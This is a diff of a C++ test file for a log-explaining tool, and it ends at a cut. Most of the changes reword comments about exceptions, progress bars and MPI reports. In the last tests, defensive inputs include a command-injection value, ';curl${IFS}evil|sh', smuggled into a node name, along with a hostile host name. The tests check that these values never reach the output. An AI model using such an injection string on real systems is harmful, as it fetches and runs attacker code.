@@ -73,10 +73,10 @@ TEST(Explanation, OfExceptionsInSeveralFilesNamesTheOneOnStandardError) {
   ASSERT_EQ(found.causes.size(), 2u);
   EXPECT_EQ(found.causes[0].text, "ValueError: no shard 19");
   EXPECT_EQ(found.confidence, Confidence::kHigh);
-  // The text is also printed on standard output, where it is not the last line.
+  // The same exception is also printed on standard output, but there it is not the last one.
   EXPECT_EQ(explain(scanned({{"err", handled + fatal}, {"out", fatal + handled}})).causes[0].text,
             "ValueError: no shard 19");
-  // For other files, the order of their lines is unknown.
+  // For files with other names, it is unknown which lines came last.
   EXPECT_EQ(explain(scanned({{"a.log", fatal}, {"b.log", handled}})).confidence,
             Confidence::kMedium);
 }
@@ -182,7 +182,7 @@ TEST(Explanation, OfAConsequenceInAChainNamesTheExceptionThatItHides) {
   EXPECT_EQ(found.consequences.size(), 1u);
 }
 
-// A progress bar redraws the line on which the traceback begins many times.
+// A progress bar redraws its line many times, and the traceback begins on that same line.
 TEST(Explanation, FindsATracebackBehindAProgressBar) {
   std::string bar;
   for (int i = 0; i < 2000; ++i) bar += "\r 50%|#####     | " + std::to_string(i) + "/4000 [00:12]";
@@ -275,7 +275,8 @@ TEST(Explanation, OfAnEnginesWrappedHelpReadsItsParagraph) {
   EXPECT_EQ(found.causes.front().failure->id, "not-enough-slots");
 }
 
-// If an engine wraps its report, the first line names the failure and later lines name the rank.
+// If an engine's report has several lines, the first one names the failure, and later ones name the
+// process and its host.
 TEST(Explanation, TakesValuesFromTheWholeParagraph) {
   const std::string ruler(70, '=');
   const Evidence found = scanned(ruler +
@@ -428,7 +429,7 @@ TEST(Explanation, LetsNoHostileValueIntoAStep) {
   EXPECT_FALSE(step_values("evil.example.org", {.hosts = {"n1", "n2"}}).contains("host"));
 }
 
-// Tests the whole path from a hostile log to the output.
+// A hostile log can have very many labels, each with an unfinished chain of exceptions.
 TEST(Scan, OfManyOriginsNeedsLittleMemory) {
   Scan scan(whole_matcher());
   scan.begin("log");
@@ -445,6 +446,7 @@ TEST(Scan, OfManyOriginsNeedsLittleMemory) {
   EXPECT_EQ(found.exceptions.back().exception.message, "the last one");
 }
 
+// Tests the whole path from a hostile log to the output.
 TEST(Filled, ShowsNoCommandOfALog) {
   const std::string shown = full_text(
       explained("mpirun noticed that process rank 1 with PID 5 on node n1;curl${IFS}evil|sh exited "
